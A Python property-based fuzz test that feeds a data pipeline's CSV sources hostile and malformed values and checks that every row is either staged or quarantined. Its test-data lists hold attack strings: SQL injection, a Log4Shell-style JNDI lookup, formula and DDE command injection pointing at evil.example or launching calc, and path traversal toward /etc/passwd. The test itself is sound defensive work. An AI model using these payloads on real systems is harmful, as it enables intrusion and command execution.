"""Fuzz: hostile rows for every DESIGN §4 entity through extract -> validate -> staging.

Hypothesis writes one source folder per example (every entity, valid values mixed with
unicode, control characters, huge fields, wrong types, SQL and formula payloads and path
separators in ids) and runs the nightly's first three steps on an embedded warehouse.
Every written row must come out exactly once: in ``stg_<entity>`` (through
``validated_<entity>``) or in ``quarantine`` with a rule naming its entity and column;
nothing crashes and the counts add up. Examples are bounded to keep the file under a
minute.
"""

from __future__ import annotations

import csv
import json
import tempfile
from datetime import UTC, date, datetime
from pathlib import Path

import pandas as pd
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from cadence.contract.entities import ENTITIES, ENTITY_ORDER, Column
from cadence.contract.schema import create_warehouse_tables
from cadence.contract.warehouse import Warehouse
from cadence.models.runner import build_staging
from cadence.policy import parse_policy
from cadence.quality import validate_sources
from cadence.quality.consent_rows import normalise_consent_rows
from cadence.sources import extract_sources
from cadence.sources.files import NULL_VALUES

AS_OF = date(2026, 11, 23)
LOADED_AT = datetime(2026, 11, 23, 1, tzinfo=UTC)
# Every row is counted, none may fail the run: the fuzz is about rows, not thresholds.
POLICY = parse_policy({"quality": {"reject_rate_threshold": 1.0}})

SQL = ["'; drop table raw_contacts; --", "1 OR 1=1", "Robert'); DROP TABLE students;--",
       "\" ; select * from quarantine; --", "${jndi:ldap://x/a}", "{{7*7}}"]
FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"open\")", "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(A1:A9)", "\t=1+1"]
PATHS = ["../../etc/passwd", "a/b", "..\\..\\windows\\system32", ".", "..", "con-1/../x",
         "/absolute", "C:\\temp"]
CONTROL = ["\x00", "nul\x00inside", "\x1b[31mred\x1b[0m", "a\r\nb", "line\nbreak", "\x7f",
           "bell\x07", "\u202eevil", "zero\u200bwidth", "  padded  ", "tab\there"]
WRONG_TYPES = ["12.5", "-1", "1e9", "abc", "2026-02-30", "2026-13-01T00:00:00Z", "true!",
               "NaN", "NULL", "None", "", " ", "0x1F", "９", "1,000", "99999999999999999999"]
OVER_LIMIT = ["h" * 150_000, "9" * 120_000]  # longer than a value may be
OVER_2_MB = "z" * 2_200_000  # longer than one Arrow block: the reader alone gets it
HOSTILE = st.sampled_from(SQL + FORMULAS + PATHS + CONTROL + WRONG_TYPES + OVER_LIMIT)
ANY_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30)
IDS = ["id-1", "id-2", "id-3"]  # a small pool: references resolve, keys collide


def valid(column: Column) -> st.SearchStrategy[str]:
    """A value the contract accepts (references may still fail: parents are fuzzed too)."""
    if column.values:
        return st.sampled_from(column.values)
    low = int(column.min) if column.min is not None else 0
    high = int(column.max) if column.max is not None else 10_000
    return {
        "id": st.sampled_from(IDS),
        "text": st.text(alphabet=st.characters(categories=("L", "N", "Zs", "P", "S")),
                        min_size=1, max_size=20),
        "email": st.sampled_from(["ana@example.com", "Bo.Li@Example.ORG", "x+y@b.co"]),
        "date": st.dates(date(2020, 1, 1), date(2030, 12, 31)).map(date.isoformat),
        "timestamp": st.datetimes(datetime(2020, 1, 1), datetime(2030, 1, 1),
                                  timezones=st.just(UTC)).map(datetime.isoformat),
        "number": st.integers(low, high * 100).map(lambda n: f"{n / 100:.2f}"),
        "integer": st.integers(low, high).map(str),
        "bool": st.sampled_from(["true", "false", "yes", "0"]),
        "timezone": st.sampled_from(["UTC", "Europe/Berlin", "America/Sao_Paulo"]),
        "country": st.sampled_from(["US", "DE", "BR"]),
        "json": st.just("{}"),
    }[column.kind]


def value(column: Column, hostile: st.SearchStrategy[str] = HOSTILE
          ) -> st.SearchStrategy[str | None]:
    return st.one_of(valid(column), valid(column), hostile, ANY_TEXT, st.none())


def rows_of(name: str, max_size: int, min_size: int = 0,
            hostile: st.SearchStrategy[str] = HOSTILE) -> st.SearchStrategy[list[dict]]:
    entity = ENTITIES[name]
    row = st.fixed_dictionaries({c.name: value(c, hostile) for c in entity.columns})
    return st.lists(row, min_size=min_size, max_size=max_size)


# Validation (Great Expectations) costs seconds per run whatever the rows, so the pipeline
# runs few examples of many rows; the reader alone runs many examples.
# (Hypothesis starts from its simplest example: a few rows keep even that one busy.)
SOURCES = st.fixed_dictionaries({name: rows_of(name, 12, 3) for name in ENTITY_ORDER})


def write_sources(folder: Path, sources: dict[str, list[dict]]) -> None:
    for name, rows in sources.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as handle:
            # \r\n ends a row (as spreadsheets write it), so a value holding a lone \r is
            # quoted like one holding \n.
            writer = csv.DictWriter(handle, fieldnames=ENTITIES[name].column_names,
                                    lineterminator="\r\n")
            writer.writeheader()
            writer.writerows([{k: "" if v is None else v for k, v in row.items()}
                              for row in rows])


def as_read(row: dict, columns: list[str]) -> tuple:
    """A written row as the source reads it: empty and NA-like cells are NULL."""
    return tuple(None if row[c] is None or row[c] in NULL_VALUES else row[c] for c in columns)


BOUNDED = {"deadline": None, "derandomize": True,
           "suppress_health_check": [HealthCheck.too_slow, HealthCheck.data_too_large,
                                     HealthCheck.large_base_example]}


# No shrinking: shrinking rows of megabytes took 23 GB and killed the test worker.
@settings(max_examples=25, phases=[Phase.explicit, Phase.generate], **BOUNDED)
@given(st.sampled_from(ENTITY_ORDER).flatmap(lambda name: st.tuples(
    st.just(name), rows_of(name, 8, hostile=HOSTILE | st.just(OVER_2_MB)))))
def test_the_files_source_reads_every_hostile_row_unchanged(entity_rows):
    from cadence.sources import FilesSource

    name, rows = entity_rows
    with tempfile.TemporaryDirectory(prefix="cadence-fuzz-") as tmp:
        write_sources(Path(tmp), {name: rows})
        frame = FilesSource(Path(tmp)).read(ENTITIES[name])
    columns = ENTITIES[name].column_names
    read = [tuple(None if v is None or v != v else v for v in r)
            for r in frame.itertuples(index=False)]
    assert read == [as_read(r, columns) for r in rows]


# Shrinking would rerun the whole pipeline many times: a failure is reported as found.
@settings(max_examples=2, phases=[Phase.explicit, Phase.generate], **BOUNDED)
@given(SOURCES)
def test_every_hostile_row_is_loaded_or_quarantined_with_a_rule(sources):
    with tempfile.TemporaryDirectory(prefix="cadence-fuzz-") as tmp:
        folder = Path(tmp) / "sources"
        folder.mkdir()
        write_sources(folder, sources)
        warehouse = Warehouse(f"duckdb:///{Path(tmp) / 'warehouse.duckdb'}")
        create_warehouse_tables(warehouse)
        try:
            loaded = extract_sources(warehouse, POLICY, folder, "fuzz", LOADED_AT)
            summary = validate_sources(warehouse, POLICY, "fuzz", AS_OF)
            staged = build_staging(warehouse, POLICY, AS_OF)
            for name in ENTITY_ORDER:
                check_entity(warehouse, name, sources[name], loaded, summary, staged)
        finally:
            warehouse.engine.dispose()


def check_entity(warehouse, name, rows, loaded, summary, staged) -> None:
    columns = ENTITIES[name].column_names
    assert loaded[name] == len(rows), name
    outcome = summary[name]
    assert outcome["rows"] == len(rows)
    assert outcome["valid"] + outcome["rejected"] == len(rows)
    stg = warehouse.count(f"stg_{name}")
    assert stg == outcome["valid"], (name, staged)
    quarantine = warehouse.read_frame(
        "select row, rule from quarantine where entity = :e", {"e": name})
    assert len(quarantine) == outcome["rejected"]
    for rule in quarantine["rule"]:
        for part in rule.split("; "):
            assert part.startswith(f"{name}.") and ": expect_" in part, part
    # every row comes out exactly once: quarantined as written, or validated (consent rows
    # in the trimmed, lower-cased form validation judged)
    validated = warehouse.read_frame(f"select {', '.join(columns)} from validated_{name}")
    written = [as_read(r, columns) for r in rows]
    judged = normalise_consent_rows(name, pd.DataFrame(written, columns=columns, dtype=object))
    judged = [tuple(None if v is None or v != v else v for v in r)
              for r in judged.itertuples(index=False)]
    left = list(range(len(rows)))
    for row in quarantine["row"]:
        record = tuple(json.loads(row)[c] for c in columns)
        match = next(i for i in left if written[i] == record)  # StopIteration: changed row
        left.remove(match)
    out = [tuple(None if v is None or v != v else v for v in r)
           for r in validated.itertuples(index=False)]
    assert sorted(out, key=repr) == sorted((judged[i] for i in left), key=repr), name
